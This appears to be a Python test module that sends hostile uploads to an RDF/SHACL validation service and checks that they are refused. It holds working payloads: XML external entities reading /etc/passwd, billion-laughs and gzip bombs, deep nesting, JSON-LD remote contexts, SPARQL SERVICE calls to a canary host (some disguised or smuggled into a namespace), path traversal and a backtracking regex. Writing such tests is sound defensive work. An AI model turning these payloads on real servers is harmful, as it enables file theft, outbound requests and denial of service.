"""Hostile documents for `/validate`: each would reach out, expand, or never end, were it taken at its word."""

from __future__ import annotations

import gzip
import http.client
import time
import urllib.parse
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Final

from hostile.attack import Outcome, is_telling
from hostile.raw import CLOSED

KIND: Final = "uploads"
DEEP: Final = 50_000
PATIENCE_SECONDS: Final = 120.0
AT_ONCE: Final = 4
BLAMED: Final = (b'"shape": "', b"/validation-timeout", b"/validation-died")
BOUNDARY: Final = "-----hostile"
TURTLE: Final = "text/turtle"
SHAPES: Final = """@prefix ex: <http://example.org/> . @prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> . @prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
"""
HARMLESS: Final = f"{SHAPES} ex:S a sh:NodeShape ; sh:targetClass ex:T ; sh:nodeKind sh:IRI ."
THINGS: Final = "@prefix ex: <http://example.org/> . ex:a a ex:T ; ex:p ex:b . ex:b a ex:T ; ex:p ex:a ."
XML: Final = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://example.org/">%s</rdf:RDF>'
)
SLOW: Final = "".join(f"?a{number} ?p{number} ?b{number} . " for number in range(9))


@dataclass(frozen=True)
class Upload:
    """One hostile request to `/validate`, and the statuses that a sound server may answer."""

    name: str
    body: bytes
    content_type: str
    allowed: frozenset[int]
    headers: tuple[tuple[str, str], ...] = ()


def uploads(canary: str) -> Iterator[Upload]:
    """Yield all of them; those that would reach out name the address `canary`."""
    yield from _documents(canary)
    for name, shapes, allowed in _shapes(canary):
        yield _form(name, THINGS, shapes, frozenset(allowed))
    yield from _sizes()
    yield _form("file name with a path", THINGS, HARMLESS, frozenset((200,)), file_name="../../../../etc/x.ttl")
    imports = f"<http://e/a> <http://www.w3.org/2002/07/owl#imports> <{canary}> ."
    yield _form("owl:imports in data", imports, HARMLESS, frozenset((200,)))


def _documents(canary: str) -> Iterator[Upload]:
    refused = frozenset((400,))
    entity = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "%s">]>{XML % "<e:a><e:p>&x;</e:p></e:a>"}'
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!-- x --><!DOCTYPE r [{laughs}]>{XML % "<e:a><e:p>&a9;</e:p></e:a>"}'
    rdf_xml, json_ld = "application/rdf+xml", "application/ld+json"
    yield Upload("external entity, file", (entity % "file:///etc/passwd").encode(), rdf_xml, refused)
    yield Upload("external entity, address", (entity % canary).encode(), rdf_xml, refused)
    yield Upload("external document type", f'<!DOCTYPE r SYSTEM "{canary}">{XML % ""}'.encode(), rdf_xml, refused)
    yield Upload("billion laughs", bomb.encode(), rdf_xml, refused)
    yield Upload("billion laughs in UTF-16", bomb.encode("utf-16"), rdf_xml, refused)
    yield Upload("XML elements 50,000 deep", (XML % ("<e:a><e:p>" * DEEP)).encode(), rdf_xml, refused)
    for address in (canary, "file:///etc/passwd"):
        yield Upload(f"JSON-LD context {address[:5]}", f'{{"@context":"{address}"}}'.encode(), json_ld, refused)
        imported = f'{{"@context":{{"@version":1.1,"@import":"{address}"}},"@id":"http://e.org/a"}}'
        yield Upload(f"JSON-LD import {address[:5]}", imported.encode(), json_ld, refused)
    scoped = f'{{"@context":{{"p":{{"@id":"http://e.org/p","@context":"{canary}"}}}},"p":{{"p":"x"}}}}'
    yield Upload("JSON-LD scoped context", scoped.encode(), json_ld, refused)
    yield Upload("JSON-LD 50,000 deep", b'{"http://e.org/p":' * DEEP + b"1" + b"}" * DEEP, json_ld, refused)
    yield Upload("JSON-LD lists 50,000 deep", b'{"@graph":' + b"[" * DEEP + b"]" * DEEP + b"}", json_ld, refused)
    yield Upload("triple terms 50,000 deep", b"<http://e/a> <http://e/p> " + b"<<( <http://e/s> <http://e/p> " * DEEP,
                 TURTLE, refused)  # fmt: skip
    yield Upload("reifying triples 50,000 deep", b"<< " * DEEP, TURTLE, refused)
    yield Upload(
        "lists 50,000 deep", b"<http://e/a> <http://e/p> " + b"( " * DEEP + b") " * DEEP + b".", TURTLE, refused
    )
    yield Upload("blank nodes 50,000 deep", b"[ <http://e/p> " * DEEP, TURTLE, refused)
    yield Upload("graphs in TriG", b"<http://e/g> { " * DEEP, "application/trig", refused)


def _shapes(canary: str) -> Iterator[tuple[str, str, tuple[int, ...]]]:
    """Yield name, shapes graph and sound statuses."""
    head, target = SHAPES, "ex:S a sh:NodeShape ; sh:targetClass ex:T ; "

    def query(text: str) -> str:
        return f'{head}{target} sh:sparql [ a sh:SPARQLConstraint ; sh:message "m" ; sh:select """{text}""" ] .'

    imports = f"<{canary}> a owl:Ontology . ex:O owl:imports <{canary}> . "
    yield "owl:imports in shapes", f"{head}{imports}{target} sh:closed false .", (200,)
    yield "SERVICE", query(f"SELECT $this WHERE {{ SERVICE <{canary}> {{ $this ?p ?o }} }}"), (422,)
    yield "SERVICE in disguise", query(f"SELECT $this WHERE {{ FILTER(1<'>')SERVICE<{canary}>{{}} #'\n }}"), (422,)
    yield "FROM", query("SELECT $this FROM <CANARY> WHERE { $this ?p ?o }".replace("CANARY", canary)), (422,)
    yield "FROM a file", query("SELECT $this FROM <file:///etc/passwd> WHERE { $this ?p ?o }"), (422,)
    injected = f"http://e/> SELECT * {{ SERVICE <{canary}> {{ ?a ?b ?c }} }} #"
    declared = f'ex:P sh:declare [ sh:prefix "p" ; sh:namespace "{injected}"^^xsd:anyURI ] . '
    yield "SERVICE in a namespace", head + declared + target + (
        'sh:sparql [ sh:prefixes ex:P ; sh:message "m" ; sh:select "SELECT $this WHERE { $this ?p ?o }" ] .'
    ), (422,)  # fmt: skip
    ask = f"ASK {{ SERVICE <{canary}> {{ $this ?p $value }} }}"
    yield "SERVICE in a validator", (
        f"{head}ex:C a sh:ConstraintComponent ; sh:parameter [ sh:path ex:c ] ; "
        f'sh:validator [ a sh:SPARQLAskValidator ; sh:message "m" ; sh:ask "{ask}" ] . {target} ex:c 1 .'
    ), (422,)  # fmt: skip
    script = f'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL "{canary}" ] ]'
    yield "JavaScript", f"{head}{target} {script} .", (422,)
    yield "rules", f"{head}{target} sh:rule [ a sh:TripleRule ; sh:subject sh:this ] .", (422,)
    yield "recursive shapes", f"{head}{target} sh:property [ sh:path ex:p ; sh:node ex:S ] .", (422,)
    yield "recursive by or", f"{head}{target} sh:or ( [ sh:not ex:S ] ) .", (422,)
    yield "property shape without a path", f"{head}{target} sh:property [ sh:minCount 1 ] .", (422,)
    yield "list without end", f"{head}{target} sh:in _:l . _:l rdf:first 1 ; rdf:rest _:l .", (422,)
    chain = "".join(f"ex:s{n} sh:node ex:s{n + 1} . " for n in range(5_000))
    yield "shapes 5,000 deep", f"{head}{target} sh:node ex:s0 . {chain}", (422,)
    path = "[ sh:inversePath " * 90 + "ex:p" + " ]" * 90
    yield "path 90 deep", f"{head}{target} sh:property [ sh:path {path} ; sh:minCount 1 ] .", (200, 422)
    yield "pattern that backtracks", f'{head}ex:S sh:targetNode "{"a" * 60}!" ; sh:pattern "^(a+)+$" .', (422,)
    yield "slow query", query(f"SELECT $this WHERE {{ {SLOW} FILTER(?b0 = ?b8 + 1) }}"), (422,)
    doubling = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))
    yield "query that doubles", query(f'SELECT $this WHERE {{ BIND("aaaaaaaa" AS ?x0) {doubling} }}'), (422,)
    yield "shapes that are no Turtle", "this is no Turtle", (400,)


def _sizes() -> Iterator[Upload]:
    bomb = gzip.compress(b" " * 50_000_000)
    too_large = frozenset((413, CLOSED))
    yield Upload("gzip bomb as body", bomb, TURTLE, frozenset((415,)), (("Content-Encoding", "gzip"),))
    yield Upload("gzip bomb unannounced", bomb, TURTLE, frozenset((415,)))
    yield Upload("200 MB", b"#" * 200_000_000, TURTLE, too_large)
    yield _form("200 MB in a form", "#" * 200_000_000, "", too_large)
    yield Upload("a million triples", b"".join(b"<http://e/a%d><http://e/p> 1.\n" % n for n in range(60_000)), TURTLE,
                 frozenset((413,)))  # fmt: skip
    part = f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n".encode()
    yield Upload("form of 9,000 parts", part * 9_000, f"multipart/form-data; boundary={BOUNDARY}", frozenset((413,)))


def _form(name: str, data: str, shapes: str, allowed: frozenset[int], file_name: str = "data.ttl") -> Upload:
    body = ""
    for field, content, file in (("data", data, file_name), ("shapes", shapes, "shapes.ttl")):
        if content:
            body += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{file}"\r\n'
            body += f"Content-Type: {TURTLE}\r\n\r\n{content}\r\n"
    return Upload(name, f"{body}--{BOUNDARY}--\r\n".encode(), f"multipart/form-data; boundary={BOUNDARY}", allowed)


def send(base: str, upload: Upload) -> Outcome:
    """Post one of them to the server at `base`; asked again where all places are taken, as the answer says."""
    start = time.monotonic()
    while True:
        status, body = _post(base, upload)
        if status != 503 or time.monotonic() - start > PATIENCE_SECONDS:
            break
        time.sleep(0.5)
    is_sound = status in upload.allowed and not is_telling(body)
    if status == 422:
        # Nothing that could not be evaluated may be said to conform, and who is at fault has a name.
        is_sound = is_sound and b'"conforms"' not in body and any(name in body for name in BLAMED)
    detail = "" if is_sound else body[:300].decode("utf-8", "replace")
    return Outcome(KIND, upload.name, status, (time.monotonic() - start) * 1000, is_sound, detail)


def _post(base: str, upload: Upload) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection(urllib.parse.urlsplit(base).netloc, timeout=PATIENCE_SECONDS)
    headers = {"Content-Type": upload.content_type, "Accept": "application/json", **dict(upload.headers)}
    try:
        connection.request("POST", "/validate", upload.body, headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (ConnectionError, http.client.HTTPException):
        return CLOSED, b""
    finally:
        connection.close()


def all_uploads(base: str, canary: str) -> list[Outcome]:
    """Send all of them, some at once."""
    with ThreadPoolExecutor(AT_ONCE) as pool:
        return list(pool.map(lambda upload: send(base, upload), uploads(canary)))
